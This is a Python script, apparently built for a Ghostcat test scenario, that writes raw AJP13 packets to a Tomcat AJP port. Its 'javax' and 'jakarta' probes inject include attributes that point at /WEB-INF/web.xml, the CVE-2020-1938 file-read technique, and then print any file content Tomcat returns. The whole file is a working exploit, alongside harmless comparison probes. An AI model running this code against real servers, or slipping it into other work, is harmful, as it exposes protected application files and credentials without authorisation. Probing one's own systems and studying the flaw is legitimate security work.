#!/usr/bin/env python3
"""Raw AJP13 client for the ghostcat-probe scenario: writes FORWARD_REQUESTs byte by byte (layout
per the AJP13 protocol reference: magic 0x1234, length, prefix code 0x02, method, strings as
length + bytes + NUL, header codes 0xA0xx, attributes, 0xFF) straight to Tomcat's AJP port, the way
CVE-2020-1938 ("Ghostcat") scanners do, and prints what came back.

usage: ghostcat-probe.py HOST PORT PROBE   (PROBE: javax | jakarta | plain | http | cping)
"""
import socket
import struct
import sys


def ajp_string(s):
    if s is None:
        return b"\xff\xff"
    b = s.encode("utf-8")
    return struct.pack(">H", len(b)) + b + b"\x00"


def forward_request(uri, attributes, headers):
    body = bytes([0x02, 0x02])  # FORWARD_REQUEST, method GET
    body += ajp_string("HTTP/1.1") + ajp_string(uri)
    body += ajp_string("203.0.113.66") + ajp_string("") + ajp_string("localhost")
    body += struct.pack(">H", 80) + b"\x00"  # server_port, is_ssl
    body += struct.pack(">H", len(headers))
    for code, value in headers:
        body += struct.pack(">H", code) + ajp_string(value)
    for name, value in attributes:
        body += b"\x0a" + ajp_string(name) + ajp_string(value)  # req_attribute
    body += b"\xff"  # are_done
    return b"\x12\x34" + struct.pack(">H", len(body)) + body


def include_attributes(prefix):
    return [
        (prefix + ".include.request_uri", "/"),
        (prefix + ".include.path_info", "/WEB-INF/web.xml"),
        (prefix + ".include.servlet_path", "/"),
    ]


# content-length 0 (0xA008): without it Tomcat would ask for a body chunk (GET_BODY_CHUNK).
HEADERS = [(0xA00B, "localhost"), (0xA00E, "ajp-probe/1.0"), (0xA001, "*/*"), (0xA008, "0")]
NAMES = {3: "SEND_BODY_CHUNK", 4: "SEND_HEADERS", 5: "END_RESPONSE", 6: "GET_BODY_CHUNK", 9: "CPONG"}


def read_replies(sock):
    data = b""
    eof = False
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                eof = True
                break
            data += chunk
            if data.endswith(b"\x41\x42\x00\x02\x05\x01") or data.endswith(b"\x41\x42\x00\x02\x05\x00") \
                    or data == b"\x41\x42\x00\x01\x09":
                break
    except socket.timeout:
        print("  (timeout waiting for more data)")
    pos = 0
    while pos + 4 <= len(data):
        if data[pos:pos + 2] != b"AB":
            print(f"  non-AJP bytes: {data[pos:pos + 40]!r}")
            break
        (length,) = struct.unpack(">H", data[pos + 2:pos + 4])
        payload = data[pos + 4:pos + 4 + length]
        code = payload[0] if payload else None
        detail = ""
        if code == 4:
            (status,) = struct.unpack(">H", payload[1:3])
            detail = f" status={status}"
        elif code == 3:
            (n,) = struct.unpack(">H", payload[1:3])
            detail = f" {n} bytes: {payload[3:3 + min(n, 60)]!r}"
        elif code == 5:
            detail = f" reuse={payload[1]}"
        print(f"  <- {NAMES.get(code, code)} len={length}{detail}")
        pos += 4 + length
    print(f"  received {len(data)} bytes" + ("; connection closed by Tomcat" if eof else ""))


def main():
    host, port, probe = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    if probe == "javax":
        msg = forward_request("/app/asdf", include_attributes("javax.servlet"), HEADERS)
    elif probe == "jakarta":
        msg = forward_request("/app/asdf", include_attributes("jakarta.servlet"), HEADERS)
    elif probe == "plain":
        msg = forward_request("/app/asdf", [], HEADERS)
    elif probe == "http":
        msg = b"GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ajp-probe/1.0\r\n\r\n"
    elif probe == "cping":
        msg = b"\x12\x34\x00\x01\x0a"
    else:
        raise SystemExit(f"unknown probe {probe}")
    print(f"probe {probe}: -> {len(msg)} bytes to {host}:{port}")
    with socket.create_connection((host, port), timeout=5) as sock:
        sock.sendall(msg)
        read_replies(sock)


if __name__ == "__main__":
    main()
